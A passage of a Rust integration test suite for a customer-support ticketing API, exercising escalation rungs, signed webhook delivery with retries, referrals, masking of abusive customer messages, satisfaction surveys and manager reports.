    );
    app.call(
        "POST",
        "/api/v1/tickets",
        &token,
        Some(json!({"customer": {"email": "c@example.com"}, "subject": "s", "body": "b"})),
    )
    .await;
    let (status, text) = app.call("GET", "/metrics", "", None).await;
    assert_eq!(status, StatusCode::OK);
    let text = text.as_str().unwrap();
    assert!(text.contains("recourse_tickets_created_total 1"), "{text}");
    assert!(
        text.contains("route=\"/api/v1/tickets\",status=\"201\"} 1"),
        "{text}"
    );
}

/// Every documented operation is routed, and every route the API promises is documented.
#[tokio::test]
async fn openapi_documents_every_route() {
    let app = TestApp::start(Db::Sqlite).await.unwrap();
    let (_, token) = app
        .agent("ada@example.com", Role::Admin, Experience::Senior)
        .await;
    let (status, doc) = app.call("GET", "/api/v1/openapi.json", "", None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(doc["openapi"].as_str().unwrap().starts_with("3.1"));
    assert_eq!(doc, serde_json::to_value(recourse_web::openapi()).unwrap());
    let mut documented = Vec::new();
    for (path, ops) in doc["paths"].as_object().unwrap() {
        for method in ops.as_object().unwrap().keys() {
            documented.push(format!("{} {path}", method.to_uppercase()));
            let concrete = path.replace("{id}", "999999");
            let (status, body) = app
                .call(&method.to_uppercase(), &concrete, &token, None)
                .await;
            assert_ne!(
                body["error"]["code"], "no_such_route",
                "{method} {path} is documented but not routed"
            );
            assert_ne!(status, StatusCode::METHOD_NOT_ALLOWED, "{method} {path}");
        }
    }
    for required in [
        "POST /api/v1/tickets",
        "GET /api/v1/tickets",
        "GET /api/v1/tickets/{id}",
        "PATCH /api/v1/tickets/{id}",
        "POST /api/v1/tickets/{id}/messages",
        "POST /api/v1/tickets/{id}/interventions",
        "GET /api/v1/search",
        "GET /healthz",
        "GET /readyz",
        "GET /metrics",
        "POST /api/v1/auth/login",
        "GET /api/v1/ladder",
        "PUT /api/v1/ladder",
        "POST /api/v1/tickets/{id}/escalations",
        "GET /api/v1/tickets/{id}/escalations/draft",
        "POST /api/v1/tickets/{id}/descents",
        "GET /api/v1/sla/policy",
        "PUT /api/v1/sla/calendar",
        "PUT /api/v1/templates/{key}",
        "POST /api/v1/webhooks",
        "POST /api/v1/tickets/{id}/cant-help",
        "POST /api/v1/tickets/{id}/transfer",
        "GET /api/v1/alternatives",
        "POST /api/v1/tickets/{id}/referral",
        "GET /api/v1/reports/summary",
        "POST /api/v1/judge/demeanor",
        "POST /api/v1/judge/coach",
    ] {
        assert!(
            documented.iter().any(|d| d == required),
            "{required} is not documented"
        );
    }
    // Paths that exist but are not in the document would be answered with something
    // other than no_such_route; probe the neighbours of documented ones.
    for probe in [
        "/api/v1/ticket",
        "/api/v1/tickets/1/history",
        "/api/v1/admin",
    ] {
        let (_, body) = app.call("GET", probe, &token, None).await;
        assert_eq!(
            body["error"]["code"], "no_such_route",
            "{probe} answers but is not documented"
        );
    }
}

/// The ladder over HTTP: configuration, a draft that names what was tried, an escalation
/// the customer can read, the refusals, and moving back down.
async fn ladder_story(app: TestApp) {
    let (_, admin) = app
        .agent("root@example.com", Role::Admin, Experience::Senior)
        .await;
    let (jo, jo_token) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    // Admins are agents too; keep this one out of routing.
    let (root_id, _) = (app.store.list_agents().await.unwrap()[0].id, ());
    recourse_desk::Desk::new(app.store.clone())
        .set_presence(root_id, false, recourse_domain::Actor::System, Millis(1))
        .await
        .unwrap();
    let (eve, eve_token) = app
        .agent("eve@example.com", Role::Agent, Experience::Experienced)
        .await;
    let (_, mia_token) = app
        .agent("mia@example.com", Role::Manager, Experience::Senior)
        .await;
    let (_, customer) = app.customer_token("ada@example.com").await;

    let (status, ladder) = app.call("GET", "/api/v1/ladder", &jo_token, None).await;
    assert_eq!(status, StatusCode::OK);
    let names: Vec<&str> = ladder["rungs"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["frontline", "experienced", "manager"]);
    assert_eq!(
        app.call("GET", "/api/v1/ladder", &customer, None).await.0,
        StatusCode::FORBIDDEN
    );
    assert_eq!(
        app.call("PUT", "/api/v1/ladder", &jo_token, Some(ladder.clone()))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    // A ladder whose top asks less than the rung below is refused with its own code.
    let mut weak = ladder.clone();
    weak["rungs"][2]["role"] = json!("agent");
    weak["rungs"][2]["min_experience"] = json!("junior");
    let (status, err) = app.call("PUT", "/api/v1/ladder", &admin, Some(weak)).await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("rung_weaker_than_below")
        )
    );
    assert_eq!(
        app.call("PUT", "/api/v1/ladder", &admin, Some(ladder))
            .await
            .0,
        StatusCode::OK
    );
    let (status, err) = app
        .call(
            "PUT",
            "/api/v1/templates/handoff",
            &admin,
            Some(json!({"body": "Hi {{nickname}}"})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("unknown_variable"))
    );
    let (status, cal) = app
        .call(
            "PUT",
            "/api/v1/sla/calendar",
            &admin,
            Some(json!({"time_zone": "Nowhere/Atlantis", "hours": []})),
        )
        .await;
    assert_eq!(
        (status, cal["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("unknown_time_zone"))
    );

    // The customer writes in; the ticket lands with the junior on the first rung.
    let (status, t) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &customer,
            Some(json!({"subject": "Kettle arrived broken", "body": "The spout fell off."})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let id = t["id"].as_i64().unwrap();
    assert_eq!(
        (t["rung"].as_str(), t["assignee_id"].as_i64()),
        (Some("frontline"), Some(jo))
    );
    assert!(t["sla"]["first_response_due"].is_string());
    for (kind, desc, result) in [
        ("refund", "half the delivery charge", "declined"),
        ("replacement", "a new kettle by courier", "pending"),
    ] {
        let (status, _) = app
            .call(
                "POST",
                &format!("/api/v1/tickets/{id}/interventions"),
                &jo_token,
                Some(json!({"kind": kind, "description": desc, "result": result})),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED);
    }
    // Customers cannot draft or escalate; a reason outside the list has its own code.
    assert_eq!(
        app.call(
            "GET",
            &format!("/api/v1/tickets/{id}/escalations/draft"),
            &customer,
            None
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/escalations"),
            &jo_token,
            Some(json!({"reason": "because"})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_enum_value"))
    );

    let (status, draft) = app
        .call(
            "GET",
            &format!("/api/v1/tickets/{id}/escalations/draft"),
            &jo_token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{draft}");
    assert_eq!(draft["to_rung"], "experienced");
    assert_eq!(draft["assignee"]["id"].as_i64(), Some(eve));
    let text = draft["body"].as_str().unwrap();
    for needle in [
        "half the delivery charge",
        "a new kettle by courier",
        "Test Agent, one of our most experienced support colleagues",
        "You will hear from us by",
    ] {
        assert!(text.contains(needle), "{needle:?} missing from {text}");
    }
    let edited = format!("{text}\n\nP.S. Your courier reference is KT-42.");
    let (status, done) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/escalations"),
            &jo_token,
            Some(json!({"reason": "needs_experience", "message": edited, "assignee_id": eve, "note": "Wants a full refund."})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{done}");
    assert_eq!(done["ticket"]["rung"], "experienced");
    assert_eq!(done["ticket"]["assignee_id"].as_i64(), Some(eve));
    assert_eq!(done["ticket"]["needs_experience"], true);
    assert_eq!(done["escalation"]["reason"], "needs_experience");
    // The customer sees the handoff in their conversation, and not the internal note.
    let (_, seen) = app
        .call("GET", &format!("/api/v1/tickets/{id}"), &customer, None)
        .await;
    let last = seen["messages"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["kind"], "reply");
    assert!(last["body"].as_str().unwrap().contains("KT-42"));
    assert!(!seen.to_string().contains("Wants a full refund"));
    // The agent's view shows each step in the history.
    let (_, full) = app
        .call("GET", &format!("/api/v1/tickets/{id}"), &eve_token, None)
        .await;
    let kinds: Vec<&str> = full["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["type"].as_str().unwrap())
        .collect();
    assert!(
        kinds.ends_with(&[
            "message_added",
            "status_changed",
            "escalated",
            "assignee_changed"
        ]),
        "{kinds:?}"
    );
    let (_, steps) = app
        .call(
            "GET",
            &format!("/api/v1/tickets/{id}/escalations"),
            &eve_token,
            None,
        )
        .await;
    assert_eq!(steps.as_array().unwrap().len(), 1);

    // The junior no longer works it (not assignee, rung above them): 403.
    let (status, _) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/escalations"),
            &jo_token,
            Some(json!({"reason": "agent_request"})),
        )
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // Eve sends it up with the drafted text; at the top, a further step is a 409.
    let (status, top) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/escalations"),
            &eve_token,
            Some(json!({"reason": "customer_request"})),
        )
        .await;
    assert_eq!(
        (status, top["ticket"]["rung"].as_str()),
        (StatusCode::CREATED, Some("manager"))
    );
    let (status, err) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{id}/escalations"),
            &mia_token,
            Some(json!({"reason": "agent_request"})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::CONFLICT, Some("already_at_top_rung"))
    );
    // Down again: managers only, and never without a note.
    let path = format!("/api/v1/tickets/{id}/descents");
    assert_eq!(
        app.call("POST", &path, &eve_token, Some(json!({"note": "yours"})))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call("POST", &path, &mia_token, Some(json!({"note": " "})))
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("note_required"))
    );
    let (status, down) = app
        .call(
            "POST",
            &path,
            &mia_token,
            Some(json!({"note": "Refund approved; please arrange it."})),
        )
        .await;
    assert_eq!(
        (status, down["ticket"]["rung"].as_str()),
        (StatusCode::CREATED, Some("experienced"))
    );

    // Marking a customer message abusive moves the case to the manager rung.
    let (_, t2) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &customer,
            Some(json!({"subject": "Refund", "body": "You people are idiots."})),
        )
        .await;
    let id2 = t2["id"].as_i64().unwrap();
    let (_, d2) = app
        .call("GET", &format!("/api/v1/tickets/{id2}"), &jo_token, None)
        .await;
    let mid = d2["messages"][0]["id"].as_i64().unwrap();
    let (status, marked) = app
        .call(
            "PUT",
            &format!("/api/v1/tickets/{id2}/messages/{mid}/demeanor"),
            &jo_token,
            Some(json!({"demeanor": "abusive"})),
        )
        .await;
    assert_eq!(
        (status, marked["rung"].as_str()),
        (StatusCode::OK, Some("manager"))
    );
    // A message id from another ticket is not found under this one.
    let (status, _) = app
        .call(
            "PUT",
            &format!("/api/v1/tickets/{id}/messages/{mid}/demeanor"),
            &jo_token,
            Some(json!({"demeanor": "angry"})),
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // Presence: one's own, or a manager for anyone.
    assert_eq!(
        app.call(
            "PUT",
            &format!("/api/v1/agents/{eve}/presence"),
            &jo_token,
            Some(json!({"present": false}))
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );
    let (status, away) = app
        .call(
            "PUT",
            &format!("/api/v1/agents/{eve}/presence"),
            &eve_token,
            Some(json!({"present": false})),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(away["agent"]["present"], false);
    assert!(
        away["reassigned"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t.as_i64() == Some(id))
    );
}

/// Webhooks: created by admins, the secret shown once, each event delivered with an
/// HMAC-SHA256 signature the receiver can check, failures retried.
async fn webhooks_are_signed_and_retried(app: TestApp) {
    use std::sync::Mutex;
    let received: Arc<Mutex<Vec<(String, String)>>> = Arc::default();
    let fail_first = Arc::new(std::sync::atomic::AtomicBool::new(true));
    let sink = {
        let received = received.clone();
        let fail_first = fail_first.clone();
        axum::Router::new().route(
            "/hook",
            axum::routing::post(move |headers: axum::http::HeaderMap, body: String| {
                let received = received.clone();
                let fail_first = fail_first.clone();
                async move {
                    if fail_first.swap(false, std::sync::atomic::Ordering::SeqCst) {
                        return axum::http::StatusCode::SERVICE_UNAVAILABLE;
                    }
                    let sig = headers["x-recourse-signature"].to_str().unwrap().to_owned();
                    received.lock().unwrap().push((sig, body));
                    axum::http::StatusCode::NO_CONTENT
                }
            }),
        )
    };
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, sink).await });

    let (_, admin) = app
        .agent("root@example.com", Role::Admin, Experience::Senior)
        .await;
    let (_, agent) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    assert_eq!(
        app.call(
            "POST",
            "/api/v1/webhooks",
            &agent,
            Some(json!({"url": url}))
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call(
            "POST",
            "/api/v1/webhooks",
            &admin,
            Some(json!({"url": "ftp://example.com"})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_url"))
    );
    let (status, hook) = app
        .call(
            "POST",
            "/api/v1/webhooks",
            &admin,
            Some(json!({"url": url})),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let secret = hook["secret"].as_str().unwrap().to_owned();
    let (_, list) = app.call("GET", "/api/v1/webhooks", &admin, None).await;
    assert!(
        list[0].get("secret").is_none(),
        "the secret is shown only once"
    );

    let (status, _) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &agent,
            Some(
                json!({"customer": {"email": "ada@example.com"}, "subject": "Hello", "body": "Hi"}),
            ),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED);
    let client = recourse_web::workers::webhook_client();
    // First round: the receiver fails the first delivery, accepts the rest.
    let attempted = recourse_web::workers::deliver_due(app.store.as_ref(), &client).await;
    assert!(attempted >= 2, "{attempted}");
    let got = received.lock().unwrap().clone();
    assert_eq!(got.len(), attempted - 1);
    for (sig, body) in &got {
        assert_eq!(
            sig,
            &format!(
                "sha256={}",
                recourse_web::workers::sign(secret.as_bytes(), body.as_bytes())
            )
        );
        let v: Value = serde_json::from_str(body).unwrap();
        assert!(v["event"]["type"].is_string() && v["event"]["ticket_id"].is_i64());
    }
    let hook_id = hook["id"].as_i64().unwrap();
    let (_, log) = app
        .call(
            "GET",
            &format!("/api/v1/webhooks/{hook_id}/deliveries"),
            &admin,
            None,
        )
        .await;
    let failed: Vec<&Value> = log
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["delivered_at"].is_null())
        .collect();
    assert_eq!(failed.len(), 1);
    assert_eq!(
        failed[0]["last_error"],
        "the webhook answered 503 Service Unavailable"
    );
    // The retry waits out its backoff (10 s) instead of hammering the receiver.
    assert_eq!(
        recourse_web::workers::deliver_due(app.store.as_ref(), &client).await,
        0
    );
    let later = Millis(recourse_web::now().0 + 11_000);
    let retry = app.store.claim_deliveries(later, 60_000, 10).await.unwrap();
    assert_eq!((retry.len(), retry[0].attempt), (1, 2));
    recourse_web::workers::deliver(&client, &retry[0])
        .await
        .unwrap();
    assert_eq!(received.lock().unwrap().len(), attempted);
}

/// When we can't help, over HTTP: every missing part has its own 422, the review queue,
/// transfers that must speak to the customer, referral suggestions ranked by tags, the
/// referral close, inconsolable, masking, supervision, the survey link and the report.
async fn recovery_story(app: TestApp) {
    let (_, jo) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    let (eve_id, eve) = app
        .agent("eve@example.com", Role::Agent, Experience::Experienced)
        .await;
    let (_, mia) = app
        .agent("mia@example.com", Role::Manager, Experience::Senior)
        .await;
    let (ada_id, ada) = app.customer_token("ada@example.com").await;
    let open = |subject: &str, tags: Value| {
        let subject = subject.to_owned();
        let app = &app;
        let ada = ada.clone();
        async move {
            let (_, t) = app
                .call("POST", "/api/v1/tickets", &ada, Some(json!({"subject": subject, "body": "Please help me with this.", "tags": tags})))
                .await;
            t["id"].as_i64().unwrap()
        }
    };

    let id = open("Return opened coffee", json!([])).await;
    let path = format!("/api/v1/tickets/{id}/cant-help");
    let base = json!({"reason": "company_policy", "explanation": "Opened food cannot come back, for hygiene reasons.", "partial_solution": "A voucher for your next order."});
    for (patch, code) in [
        (json!({"explanation": " "}), "explanation_required"),
        (
            json!({"partial_solution": null}),
            "partial_solution_required",
        ),
        (json!({"reason": "third_party"}), "third_party_who_required"),
        (
            json!({"reason": "third_party", "third_party": {"who": "Your bank"}}),
            "third_party_why_required",
        ),
        (
            json!({"reason": "third_party", "third_party": {"who": "Your bank", "why_theirs": "It is their block"}}),
            "third_party_contact_required",
        ),
    ] {
        let mut b = base.clone();
        for (k, v) in patch.as_object().unwrap() {
            b[k] = v.clone();
        }
        let (status, err) = app.call("POST", &path, &jo, Some(b)).await;
        assert_eq!(
            (status, err["error"]["code"].as_str()),
            (StatusCode::UNPROCESSABLE_ENTITY, Some(code)),
            "{err}"
        );
    }
    assert_eq!(
        app.call("POST", &path, &ada, Some(base.clone())).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, done) = app.call("POST", &path, &jo, Some(base)).await;
    assert_eq!(status, StatusCode::CREATED, "{done}");
    assert_eq!(
        (
            done["ticket"]["status"].as_str(),
            done["ticket"]["outcome"].as_str()
        ),
        (Some("resolved"), Some("explained"))
    );
    // The customer reads the explanation, then the survey invitation with its link.
    let (_, seen) = app
        .call("GET", &format!("/api/v1/tickets/{id}"), &ada, None)
        .await;
    let msgs = seen["messages"].as_array().unwrap();
    assert!(
        msgs[msgs.len() - 2]["body"]
            .as_str()
            .unwrap()
            .contains("for hygiene reasons")
    );
    let invite = msgs.last().unwrap()["body"].as_str().unwrap().to_owned();
    let token = invite
        .split("/survey/")
        .nth(1)
        .unwrap()
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned();
    let (status, survey) = app
        .call("GET", &format!("/api/v1/surveys/{token}"), "", None)
        .await;
    assert_eq!(
        (status, survey["answered"].as_bool()),
        (StatusCode::OK, Some(false)),
        "{survey}"
    );
    let (status, err) = app
        .call(
            "PUT",
            &format!("/api/v1/surveys/{token}"),
            "",
            Some(json!({"product": 6, "pleasantness": 5, "competence": 5, "recommend": 9})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("rating_out_of_range")
        )
    );
    let (status, answered) = app
        .call("PUT", &format!("/api/v1/surveys/{token}"), "", Some(json!({"product": 2, "pleasantness": 5, "competence": 4, "recommend": 9, "comment": "Kind people, odd policy."})))
        .await;
    assert_eq!(
        (
            status,
            answered["answered"].as_bool(),
            answered["product"].as_u64()
        ),
        (StatusCode::OK, Some(true), Some(2))
    );
    assert_eq!(
        app.call("GET", "/api/v1/surveys/srv_not-a-real-token", "", None)
            .await
            .0,
        StatusCode::NOT_FOUND
    );

    // Nothing to offer: the review queue, then a manager approves with something after all.
    let id2 = open("Cash refund", json!([])).await;
    let (status, queued) = app
        .call("POST", &format!("/api/v1/tickets/{id2}/cant-help"), &jo, Some(json!({"reason": "law_or_regulation", "explanation": "The law does not let us refund in cash.", "no_partial_justification": "Nothing else fits this customer."})))
        .await;
    assert_eq!(
        (status, queued["cant_help"]["state"].as_str()),
        (StatusCode::CREATED, Some("pending_review"))
    );
    assert_eq!(
        app.call("GET", "/api/v1/reviews", &jo, None).await.0,
        StatusCode::FORBIDDEN
    );
    let (_, q) = app.call("GET", "/api/v1/reviews", &mia, None).await;
    assert_eq!(
        q.as_array()
            .unwrap()
            .iter()
            .map(|r| r["ticket_id"].as_i64().unwrap())
            .collect::<Vec<_>>(),
        [id2]
    );
    let (_, flagged) = app
        .call("GET", "/api/v1/tickets?flag=review_pending", &mia, None)
        .await;
    assert_eq!(flagged["tickets"][0]["id"].as_i64(), Some(id2));
    let review = format!("/api/v1/tickets/{id2}/cant-help/review");
    assert_eq!(
        app.call("POST", &review, &jo, Some(json!({"approve": true})))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let (status, approved) = app
        .call(
            "POST",
            &review,
            &mia,
            Some(json!({"approve": true, "partial_solution": "A bank transfer within two days."})),
        )
        .await;
    assert_eq!(
        (status, approved["cant_help"]["state"].as_str()),
        (StatusCode::OK, Some("approved")),
        "{approved}"
    );
    assert!(
        app.call("GET", "/api/v1/reviews", &mia, None)
            .await
            .1
            .as_array()
            .unwrap()
            .is_empty()
    );

    // Transfers must tell the customer; a third without an answer flags ping-pong.
    let id3 = open("Invoice address", json!([])).await;
    let tpath = format!("/api/v1/tickets/{id3}/transfer");
    let (status, err) = app
        .call("POST", &tpath, &jo, Some(json!({"to_agent_id": eve_id})))
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("customer_message_required")
        )
    );
    let (status, err) = app
        .call(
            "POST",
            &tpath,
            &jo,
            Some(json!({"customer_message": "Someone else has it now."})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("transfer_target_required")
        )
    );
    for _ in 0..3 {
        let (status, t) = app
            .call("POST", &tpath, &mia, Some(json!({"to_agent_id": eve_id, "customer_message": "Eve in billing has your case now: she can change invoices."})))
            .await;
        assert_eq!(status, StatusCode::OK, "{t}");
    }
    let (_, pp) = app
        .call("GET", "/api/v1/tickets?flag=ping_pong", &mia, None)
        .await;
    assert_eq!(pp["tickets"][0]["id"].as_i64(), Some(id3));
    let (_, seen) = app
        .call("GET", &format!("/api/v1/tickets/{id3}"), &ada, None)
        .await;
    assert_eq!(
        seen["messages"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|m| m["body"].as_str().unwrap().contains("Eve in billing"))
            .count(),
        3
    );

    // The referral directory, ranked suggestions, and the referral close.
    for (name, serves, notes) in [
        ("FixIt Repairs", json!(["repairs"]), "Kettles, toasters"),
        ("Refund Helpers", json!(["refunds", "repairs"]), "Disputes"),
        ("Garden World", json!(["garden"]), "Lawnmowers"),
    ] {
        let (status, _) = app
            .call("POST", "/api/v1/alternatives", &mia, Some(json!({"name": name, "serves": serves, "contact": "https://example.org", "notes": notes})))
            .await;
        assert_eq!(status, StatusCode::CREATED);
    }
    assert_eq!(
        app.call(
            "POST",
            "/api/v1/alternatives",
            &jo,
            Some(json!({"name": "x", "contact": "y"}))
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call(
            "POST",
            "/api/v1/alternatives",
            &mia,
            Some(json!({"name": "No contact", "contact": " "})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("contact_required"))
    );
    let id4 = open("Kettle repair refund", json!(["repairs", "refunds"])).await;
    let (_, sug) = app
        .call(
            "GET",
            &format!("/api/v1/tickets/{id4}/referral/suggestions"),
            &jo,
            None,
        )
        .await;
    let names: Vec<&str> = sug
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["alternative"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        names,
        ["Refund Helpers", "FixIt Repairs"],
        "two shared tags beat one; no match is left out"
    );
    let refer = format!("/api/v1/tickets/{id4}/referral");
    let best = sug[0]["alternative"]["id"].as_i64().unwrap();
    let body = json!({"alternative_id": best, "reason": "We sell kettles; we do not repair them."});
    assert_eq!(
        app.call("POST", &refer, &jo, Some(body.clone())).await.0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app.call("POST", &refer, &mia, Some(body.clone())).await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::CONFLICT, Some("conflict")),
        "not on the top rung yet"
    );
    for reason in ["customer_request", "customer_request"] {
        app.call(
            "POST",
            &format!("/api/v1/tickets/{id4}/escalations"),
            &mia,
            Some(json!({"reason": reason})),
        )
        .await;
    }
    let (status, closed) = app.call("POST", &refer, &mia, Some(body)).await;
    assert_eq!(
        (
            status,
            closed["status"].as_str(),
            closed["outcome"].as_str()
        ),
        (StatusCode::OK, Some("closed"), Some("referred")),
        "{closed}"
    );
    let (status, err) = app
        .call(
            "PATCH",
            &format!("/api/v1/tickets/{id3}"),
            &mia,
            Some(json!({"status": "closed", "outcome": "inconsolable"})),
        )
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (
            StatusCode::UNPROCESSABLE_ENTITY,
            Some("use_inconsolable_route")
        )
    );

    // Inconsolable: managers only, with a note.
    let incon = format!("/api/v1/tickets/{id3}/inconsolable");
    assert_eq!(
        app.call("POST", &incon, &eve, Some(json!({"note": "x"})))
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call("POST", &incon, &mia, Some(json!({"note": ""})))
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("note_required"))
    );
    let (status, t) = app.call("POST", &incon, &mia, Some(json!({"note": "Offered refund, credit and a call; wants compensation we cannot give."}))).await;
    assert_eq!(
        (status, t["outcome"].as_str()),
        (StatusCode::OK, Some("inconsolable"))
    );

    // Abuse: the judge reads it on arrival; agents see it masked, the customer does not.
    let (_, rude) = app
        .call("POST", "/api/v1/tickets", &ada, Some(json!({"subject": "Refund", "body": "You are a useless idiot and so is your manager."})))
        .await;
    let rid = rude["id"].as_i64().unwrap();
    assert_eq!(rude["rung"], "manager", "abuse goes straight to a manager");
    let (_, agent_view) = app
        .call("GET", &format!("/api/v1/tickets/{rid}"), &mia, None)
        .await;
    let first = &agent_view["messages"][0];
    assert_eq!(
        (first["masked"].as_bool(), first["body"].as_str()),
        (Some(true), Some(""))
    );
    assert_eq!(agent_view["demeanor_trajectory"][0]["demeanor"], "abusive");
    let (_, own) = app
        .call("GET", &format!("/api/v1/tickets/{rid}"), &ada, None)
        .await;
    assert!(
        own["messages"][0]["body"]
            .as_str()
            .unwrap()
            .contains("useless idiot")
    );
    let mid = first["id"].as_i64().unwrap();
    let (status, shown) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{rid}/messages/{mid}/reveal"),
            &mia,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(shown["body"].as_str().unwrap().contains("useless idiot"));
    // Hand-off with no reason; then supervision for the repeat offender.
    let (status, passed) = app
        .call(
            "POST",
            &format!("/api/v1/tickets/{rid}/handoff"),
            &mia,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{passed}");
    let (_, cust) = app
        .call("GET", &format!("/api/v1/customers/{ada_id}"), &jo, None)
        .await;
    assert_eq!(cust["abusive_messages"].as_i64(), Some(1));
    assert_eq!(
        app.call(
            "PUT",
            &format!("/api/v1/customers/{ada_id}/supervision"),
            &jo,
            Some(json!({"supervised": true}))
        )
        .await
        .0,
        StatusCode::FORBIDDEN
    );
    let (status, sup) = app
        .call(
            "PUT",
            &format!("/api/v1/customers/{ada_id}/supervision"),
            &mia,
            Some(json!({"supervised": true})),
        )
        .await;
    assert_eq!(
        (status, sup["supervised"].as_bool()),
        (StatusCode::OK, Some(true))
    );
    let (status, next) = app
        .call(
            "POST",
            "/api/v1/tickets",
            &ada,
            Some(json!({"subject": "New question", "body": "Hello there."})),
        )
        .await;
    assert_eq!(
        (status, next["rung"].as_str()),
        (StatusCode::CREATED, Some("manager")),
        "supervised, never refused"
    );

    // The report: managers only; it counts what just happened.
    assert_eq!(
        app.call("GET", "/api/v1/reports/summary", &jo, None)
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let (status, err) = app
        .call("GET", "/api/v1/reports/summary?from=yesterday", &mia, None)
        .await;
    assert_eq!(
        (status, err["error"]["code"].as_str()),
        (StatusCode::BAD_REQUEST, Some("invalid_time"))
    );
    let (status, r) = app.call("GET", "/api/v1/reports/summary", &mia, None).await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert_eq!(r["ended"].as_i64(), Some(4), "{r}");
    assert_eq!(
        (
            r["inconsolable"].as_i64(),
            r["referrals"].as_i64(),
            r["ping_pong"].as_i64()
        ),
        (Some(1), Some(1), Some(1))
    );
    assert_eq!(r["inconsolable_share"].as_f64(), Some(0.25));
    assert_eq!(r["inconsolable_reference"].as_f64(), Some(0.02));
    assert_eq!(
        (
            r["survey_answers"].as_i64(),
            r["product_satisfaction"].as_f64(),
            r["service_satisfaction"].as_f64(),
            r["nps"].as_f64()
        ),
        (Some(1), Some(2.0), Some(4.5), Some(100.0))
    );
    assert!(
        r["escalations"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e.get("agent").is_none() && e.get("agent_id").is_none())
    );
}

/// The judge and the coach: a reading with its signals, and flags on a poor draft that
/// go away on a better one.
async fn judge_and_coach(app: TestApp) {
    let (_, jo) = app
        .agent("jo@example.com", Role::Agent, Experience::Junior)
        .await;
    let (_, ada) = app.customer_token("ada@example.com").await;
    let (status, r) = app
        .call("POST", "/api/v1/judge/demeanor", &jo, Some(json!({"text": "This is the THIRD time my order is late!!! I'm cancelling and leaving a review.\n\nOn Mon, Support wrote:\n> Thanks, we love you"})))
        .await;
    assert_eq!(status, StatusCode::OK, "{r}");
    assert!(
        ["angry", "frustrated"].contains(&r["label"].as_str().unwrap()),
        "{r}"
    );
    let kinds: Vec<&str> = r["signals"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["kind"].as_str().unwrap())
